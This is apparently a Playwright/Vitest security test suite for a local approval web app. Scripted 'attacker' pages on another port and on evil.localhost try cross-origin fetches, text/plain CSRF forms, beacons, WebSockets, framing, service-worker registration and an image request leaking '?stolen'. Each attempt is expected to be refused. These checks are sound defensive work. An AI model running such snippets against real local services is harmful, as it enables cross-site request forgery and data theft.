import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Asked, Output, PageChannelName } from '@yinzheng/contract/ipc';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, REFUSED } from '../support/browser-host/client.ts';
import { confirmAndGivePin, openedBy } from './support/act-window.ts';
import { launch, newContext } from './support/browser.ts';
import { startHost, type RunningHost } from './support/host.ts';
import { APPLICANT, APPROVER } from './support/station.ts';

// Everything else that runs in the same browser tries to get at the program: pages of other ports and other names, and
// the program's own page, as if an attacker wrote its scripts.

let browser: Browser;
let host: RunningHost;
let context: BrowserContext;
/** The program's own page. */
let page: Page;
/** Serves a page on another port of the same address, and under any other name; notes what it is sent. */
let elsewhere: Server;
const noted: IncomingMessage[] = [];
let port: number;

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    noted.push(request);
    response.setHeader('content-type', 'text/html');
    response.end('<!doctype html><title>elsewhere</title><p>elsewhere</p>');
  });
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
  ({ port } = elsewhere.address() as AddressInfo);
  [browser, host] = await Promise.all([launch(), startHost()]);
  context = await newContext(browser);
  page = await context.newPage();
  await page.goto(host.address);
  await page.getByRole('navigation').first().waitFor();
}, 240_000);

afterAll(async () => {
  await Promise.all([browser.close(), host.stop()]);
  elsewhere.close();
});

/** Asks as the program's own page does. */
async function call<N extends PageChannelName>(channel: N, input: Asked<N>): Promise<Output<N>> {
  const answer = await page.evaluate(
    async ([path, body]) => {
      const headers = {
        'content-type': 'application/json',
        'x-page-key': localStorage.getItem('yinzheng.page-key') ?? '',
      };
      const response = await fetch(path, { method: 'POST', headers, body });
      return (await response.json()) as unknown;
    },
    [`/call/${channel}`, JSON.stringify(input)] as const,
  );
  const { ok, data } = answer as { ok: boolean; data: Output<N> };
  if (!ok) throw new Error(JSON.stringify(answer));
  return data;
}

async function become(name: string): Promise<void> {
  const { people } = await call('session.get', {});
  await call('session.become', { person: people.find((one) => one.name === name)!.id });
}

/** A decision that waits for its approver, who sits there: its job. */
async function waiting(): Promise<string> {
  await become(APPLICANT);
  const { file } = await call('files.sample', {});
  const { seals } = await call('seals.list', {});
  const { id } = await call('requests.make', {
    seal: seals[0]!.id,
    reason: '试用',
    classification: 'public',
    days: 7,
    documents: [{ file, count: 1 }],
  });
  await become(APPROVER);
  return (await call('requests.decide', { id, answer: 'agreed', opinion: '' })).job;
}

async function stateOf(job: string): Promise<string> {
  return (await call('jobs.get', { job })).state;
}

/** Has a page's script try something; what it got, or the name of what it met. */
function attempt(where: Page, script: string): Promise<unknown> {
  const body = `(async () => { try { return await (async () => { ${script} })() } catch (error) { return 'met ' + error.name } })()`;
  return where.evaluate(body);
}

/** Where attackers sit: another port of the same address, and another name that leads to this computer. */
const PLACES = [
  ['another port', () => `http://127.0.0.1:${port}/`],
  ['another name', () => `http://evil.localhost:${port}/`],
] as const;

describe.each(PLACES)('a page of %s', (_, address) => {
  let other: Page;

  beforeAll(async () => {
    other = await context.newPage();
    await other.goto(address());
  });

  it('reads nothing by a request, in whichever mode', async () => {
    const job = await waiting();
    const paths = ['/', '/assets/', '/call/session.get', '/events', '/bytes/result/1', `/prompt/${job}`];
    for (const path of paths) {
      const url = JSON.stringify(host.origin + path);
      for (const init of [
        "{ credentials: 'include' }",
        "{ method: 'POST', credentials: 'include', body: '{}' }",
      ]) {
        expect(await attempt(other, `return (await fetch(${url}, ${init})).text()`), path).toBe(
          'met TypeError',
        );
      }
      const blind = `const r = await fetch(${url}, { mode: 'no-cors', credentials: 'include', redirect: 'manual' }); return [r.type, r.status, r.url === '' || r.url === ${url}, (await r.text()).length]`;
      const got = await attempt(other, blind);
      // Opaque, or refused by our Cross-Origin-Resource-Policy before the page hears of it.
      if (got !== 'met TypeError') expect(got).toEqual(['opaque', 0, true, 0]);
    }
    expect(await stateOf(job)).toBe('confirming');
  });

  it('sends nothing that is taken: by a form, a beacon, a socket', async () => {
    const before = await call('session.get', {});
    const form = await context.newPage();
    await form.goto(address());
    const [answer] = await Promise.all([
      form.waitForResponse((response) => response.url().startsWith(host.origin)),
      form.evaluate((action) => {
        document.body.innerHTML = `<form method="post" enctype="text/plain" action="${action}"><input name='{"person":null,"a":"' value='"}'></form>`;
        document.forms[0]!.submit();
      }, `${host.origin}/call/session.become`),
    ]);
    expect([answer.status(), await answer.text()]).toEqual([403, REFUSED]);
    await form.close();
    await attempt(other, `navigator.sendBeacon('${host.origin}/call/session.become', '{"person":null}')`);
    const socket = `return new Promise((r) => { const s = new WebSocket('${host.origin.replace('http', 'ws')}/events'); s.onopen = () => r('open'); s.onerror = () => r('refused'); })`;
    expect(await attempt(other, socket)).toBe('refused');
    expect((await call('session.get', {})).person).toEqual(before.person);
  });

  it('frames nothing', async () => {
    const job = await waiting();
    for (const path of ['/', `/prompt/${job}`]) {
      const script = `const f = document.createElement('iframe'); f.src = '${host.origin}${path}'; const done = new Promise((r) => { f.onload = r; }); document.body.append(f); await done; return f.contentDocument?.body.textContent ?? 'closed'`;
      expect(await attempt(other, script)).toBe('closed');
    }
    const texts = await Promise.all(other.frames().map((frame) => frame.locator('body').innerText()));
    for (const text of texts) expect(text).not.toContain('工作台');
    expect(await stateOf(job)).toBe('confirming');
  });

  it('reads no window that it opens, and holds no handle to it', async () => {
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      attempt(other, `globalThis.w = window.open('${host.origin}/')`),
    ]);
    await opened.waitForLoadState();
    expect(await opened.evaluate(() => window.opener === null)).toBe(true);
    const tries = await attempt(
      other,
      `return [w.closed, (() => { try { return w.document.title } catch (e) { return e.name } })()]`,
    );
    expect([
      [true, 'SecurityError'],
      [true, 'TypeError'],
      [true, ''],
    ]).toContainEqual(tries);
    // It did not come in either: a window that another page opens carries no cookie of ours, or is refused.
    expect(await opened.locator('body').innerText()).not.toContain('请选择人员');
    await opened.close();
  });

  it('loads no script, style or picture of ours', async () => {
    const html = await (await context.request.get(host.origin)).text().catch(() => '');
    const asset = /\/assets\/[\w-]+\.js/.exec(html)?.[0] ?? '/assets/x.js';
    for (const [tag, attribute, path] of [
      ['script', 'src', asset],
      ['img', 'src', '/bytes/seal/a'],
      ['link rel=stylesheet', 'href', asset],
    ] as const) {
      const script = `const e = document.createElement('${tag.split(' ')[0]}'); ${tag.includes('rel') ? "e.rel = 'stylesheet';" : ''} const done = new Promise((r) => { e.onload = () => r('loaded'); e.onerror = () => r('refused'); }); e.${attribute} = '${host.origin}${path}'; document.head.append(e); return done`;
      expect(await attempt(other, script), tag).toBe('refused');
    }
  });
});

describe('a port that catches our cookie', () => {
  it('gets no data with it', async () => {
    noted.length = 0;
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${port}/`);
    await other.reload();
    await other.evaluate(() => fetch('/again'));
    const cookie = noted.map(({ headers }) => headers.cookie).find((one) => one?.includes('yinzheng-')) ?? '';
    // Browsers do send it: that is what the page's key is for.
    expect(cookie).not.toBe('');
    const headers = {
      cookie,
      origin: host.origin,
      'sec-fetch-site': 'same-origin',
      'content-type': 'application/json',
    };
    for (const [method, path] of [
      ['POST', '/call/session.get'],
      ['POST', '/upload?name=a.pdf'],
      ['GET', '/bytes/result/1'],
    ] as const) {
      const got = await ask(host.origin, path, {
        method,
        headers,
        ...(method === 'POST' ? { body: '{}' } : {}),
      });
      expect([path, got.text]).toEqual([path, REFUSED]);
    }
    expect(await other.evaluate(() => localStorage.length)).toBe(0);
    await other.close();
  });

  it('is not led to by another name', async () => {
    const rebound = await context.newPage();
    const answer = await rebound.goto(host.origin.replace('127.0.0.1', 'evil.localhost'));
    expect(answer?.status()).toBe(403);
    await rebound.close();
  });
});

describe('the program’s own page, its scripts an attacker’s', () => {
  it('reads no cookie, registers no worker, reaches no other port', async () => {
    expect(await attempt(page, 'return document.cookie')).toBe('');
    for (const path of ['/pdfjs/pdf.worker.mjs', '/bytes/result/1', '/']) {
      expect(await attempt(page, `return (await navigator.serviceWorker.register('${path}')).scope`)).toMatch(
        /^met /,
      );
    }
    expect(await attempt(page, `return (await fetch('http://127.0.0.1:${port}/')).text()`)).toBe(
      'met TypeError',
    );
    expect(
      await attempt(
        page,
        `return new Promise((r) => { const i = new Image(); i.onload = () => r('sent'); i.onerror = () => r('kept'); i.src = 'http://127.0.0.1:${port}/?stolen'; })`,
      ),
    ).toBe('kept');
    expect(noted.some(({ url }) => url?.includes('stolen'))).toBe(false);
    // Neither text nor an element of its own becomes code.
    const runs = `setTimeout('globalThis.ran = 1'); const s = document.createElement('script'); s.textContent = 'globalThis.ran = 2'; document.head.append(s); await new Promise((r) => setTimeout(r, 200)); return globalThis.ran ?? 0`;
    expect(await attempt(page, runs)).toBe(0);
  });

  it('is handed no capability', async () => {
    const job = await waiting();
    const url = `'/prompt/${job}'`;
    for (const init of [
      '{}',
      "{ redirect: 'manual' }",
      "{ mode: 'no-cors' }",
      "{ headers: { 'Sec-Fetch-Mode': 'navigate' } }",
    ]) {
      expect(
        await attempt(
          page,
          `const r = await fetch(${url}, ${init}); return [r.status, r.redirected, await r.text()]`,
        ),
      ).toEqual([403, false, REFUSED]);
    }
    expect(
      await attempt(
        page,
        `const x = new XMLHttpRequest(); x.open('GET', ${url}); return new Promise((r) => { x.onload = () => r([x.status, x.responseURL.includes('c=')]); x.send(); })`,
      ),
    ).toEqual([403, false]);
    const frame = `const f = document.createElement('iframe'); f.src = ${url}; document.body.append(f); await new Promise((r) => setTimeout(r, 500)); let t; try { t = f.contentWindow.location.href } catch (e) { t = e.name } f.remove(); return t`;
    expect(await attempt(page, frame)).not.toContain('c=');
    const ahead = `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = ${url}; document.head.append(l); const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [${url}] }] }); document.head.append(s); await new Promise((r) => setTimeout(r, 500)); return performance.getEntries().some((e) => e.name.includes('c='))`;
    expect(await attempt(page, ahead)).toBe(false);
    expect(await stateOf(job)).toBe('confirming');
  });

  it('neither reads, frames, drives nor answers the small windows, and their person still can', async () => {
    const job = await waiting();
    const window_ = await openedBy(context, async () => {
      await attempt(page, `globalThis.w = window.open('/prompt/${job}', 'small')`);
    });
    const second = new URL(window_.url());
    expect(second.origin).not.toBe(host.origin);
    // No handle: neither way.
    expect(await window_.evaluate(() => window.opener === null)).toBe(true);
    expect(await attempt(page, 'return w.closed')).toBe(true);
    for (const script of [
      'return w.document.body.innerHTML',
      'return w.location.href',
      'return w.frames.length && w.frames[0].name',
    ]) {
      const got = await attempt(page, script);
      expect(String(got)).not.toMatch(/c=|确|核/);
    }
    await attempt(page, "w.postMessage('yes', '*'); w.location.href = '/assets/none'; w.close()");
    // Its name leads to another window.
    const [named] = await Promise.all([
      context.waitForEvent('page'),
      attempt(page, "window.open('/', 'small')"),
    ]);
    await named.close();
    expect(window_.isClosed()).toBe(false);
    expect(window_.url()).toBe(second.href);

    const facts = await window_.locator('body').innerText();
    expect(facts).toContain('试用');
    // The address of the window, stolen by looking over a shoulder, opens nothing: not in a window, not by a request.
    const thief = await context.newPage();
    expect((await thief.goto(second.href))?.status()).toBe(403);
    await thief.close();
    for (const path of ['/answer', '/pin', '/picture', second.pathname + second.search]) {
      const url = second.origin + path;
      expect(
        await attempt(page, `return (await fetch('${url}', { method: 'POST', body: '{}' })).text()`),
      ).toBe('met TypeError');
      expect(await attempt(page, `return (await fetch('${url}', { mode: 'no-cors' })).type`)).toBe(
        'met TypeError',
      );
    }
    const frame = `const f = document.createElement('iframe'); f.src = '${second.href}'; document.body.append(f); await new Promise((r) => setTimeout(r, 300)); try { return f.contentDocument.body.innerText } catch (e) { return e.name } finally { f.remove() }`;
    expect(await attempt(page, frame)).not.toContain('试用');
    const form = await context.newPage();
    await form.goto(`http://127.0.0.1:${port}/`);
    const [posted] = await Promise.all([
      form.waitForResponse((response) => response.url().startsWith(second.origin)),
      form.evaluate((action) => {
        document.body.innerHTML = `<form method="post" action="${action}"><input name="key" value="x"></form>`;
        document.forms[0]!.submit();
      }, `${second.origin}/answer`),
    ]);
    expect(await posted.text()).toBe(REFUSED);
    await form.close();
    expect(await stateOf(job)).toBe('confirming');

    const pinUrls: string[] = [];
    await confirmAndGivePin(window_, { onPin: async (small) => void pinUrls.push(small.url()) });
    await expect.poll(() => stateOf(job), { timeout: 20_000 }).toBe('done');
    const late = await context.newPage();
    expect((await late.goto(pinUrls[0]!))?.status()).toBe(403);
    await late.close();
  });

  it('leaves no PIN, token or capability in what the program writes', () => {
    expect(host.complaints()).toBe('');
  });
});
